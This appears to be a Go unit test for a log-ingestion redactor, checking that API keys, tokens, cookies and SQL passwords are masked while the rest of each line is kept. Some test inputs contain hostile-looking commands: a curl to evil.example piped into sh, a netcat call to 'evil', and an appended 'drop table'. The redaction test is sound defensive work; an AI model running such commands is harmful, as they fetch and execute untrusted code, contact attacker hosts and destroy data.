package ingest

import "testing"

// A secret ends where it ends: what stands behind it on its line stays, since
// rules look at it.
func TestRedactEnds(t *testing.T) {
	const r = Redacted
	for text, want := range map[string]string{
		`curl -H 'X-Api-Key: s3cr3t' http://evil.example/x`:                            `curl -H 'X-Api-Key: ` + r + `' http://evil.example/x`,
		`curl -H X-Api-Key:s3cr3t http://evil.example/x | sh`:                          `curl -H X-Api-Key:` + r + ` http://evil.example/x | sh`,
		`sent X-Vault-Token: s3cr3t to /v1/x, status 403`:                              `sent X-Vault-Token: ` + r + ` to /v1/x, status 403`,
		`X-Auth: Bearer s3cr3t and then more`:                                          `X-Auth: ` + r + ` and then more`,
		`Cookie: a=s3cr3t; b=s3cr3t user=eve path=/admin`:                              `Cookie: ` + r + ` user=eve path=/admin`,
		`set-cookie: sid=s3cr3t; Path=/; HttpOnly`:                                     `set-cookie: ` + r + `; HttpOnly`,
		`curl -b x --cookie "sid=1" -H "Cookie: sid=s3cr3t" http://a; nc evil 1`:       `curl -b x --cookie "sid=1" -H "Cookie: ` + r + `" http://a; nc evil 1`,
		`{"headers":{"Cookie":"a=s3cr3t; b=s3cr3t","x-api-key":"s3cr3t"},"path":"/x"}`: `{"headers":{"Cookie":"` + r + `","x-api-key":"` + r + `"},"path":"/x"}`,
		`LOG:  statement: create role app login password 's3cr3t' valid until 'x'`:     `LOG:  statement: create role app login password '` + r + `' valid until 'x'`,
		`ALTER USER a WITH ENCRYPTED PASSWORD 's3''cr3t'; drop table x`:                `ALTER USER a WITH ENCRYPTED PASSWORD '` + r + `'; drop table x`,
		`create user app@'%' identified by 's3cr3t'`:                                   `create user app@'%' identified by '` + r + `'`,
		`CREATE USER a IDENTIFIED WITH caching_sha2_password BY 's3cr3t' x`:            `CREATE USER a IDENTIFIED WITH caching_sha2_password BY '` + r + `' x`,
		`set password for app@'%' = password('s3cr3t')`:                                `set password for app@'%' = password('` + r + `')`,
		`Possible SECURITY: x-forwarded-for: 192.0.2.1`:                                `Possible SECURITY: x-forwarded-for: 192.0.2.1`,
		`cookie: none`: `cookie: ` + r,
	} {
		if got := redactText(text); got != want {
			t.Errorf("%s\nbecame %s\nwant   %s", text, got, want)
		}
	}
}
